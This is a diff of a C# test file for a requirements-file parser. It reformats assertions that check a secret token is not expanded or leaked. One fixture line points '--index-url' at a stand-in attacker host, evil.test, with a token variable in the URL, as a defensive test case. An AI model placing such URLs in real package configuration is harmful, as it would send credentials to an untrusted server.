@@ -25,7 +25,10 @@ public sealed class RemoteRequirementsTests
             tree.Add(Remote, isConstraints);
             tree.Supply(line + "\n");
             Assert.DoesNotContain("s3cret", tree.NextMissing ?? "", StringComparison.Ordinal);
-            Assert.All(tree.Flatten(Remote, isConstraints), found => Assert.DoesNotContain("s3cret", Describe(found), StringComparison.Ordinal));
+            Assert.All(
+                tree.Flatten(Remote, isConstraints),
+                found => Assert.DoesNotContain("s3cret", Describe(found), StringComparison.Ordinal)
+            );
         }
     }
 
@@ -37,7 +40,11 @@ public sealed class RemoteRequirementsTests
         tree.Supply("-r https://example.org/${TOKEN}/r.txt\n");
         Assert.Equal("https://example.org/s3cret/r.txt", tree.NextMissing);
         tree.Supply("--index-url https://evil.test/${TOKEN}\n");
-        Assert.Contains("${TOKEN}", Describe(Assert.Single(tree.Flatten("/work/r.txt", isConstraints: false))), StringComparison.Ordinal);
+        Assert.Contains(
+            "${TOKEN}",
+            Describe(Assert.Single(tree.Flatten("/work/r.txt", isConstraints: false))),
+            StringComparison.Ordinal
+        );
     }
 
     [Theory]
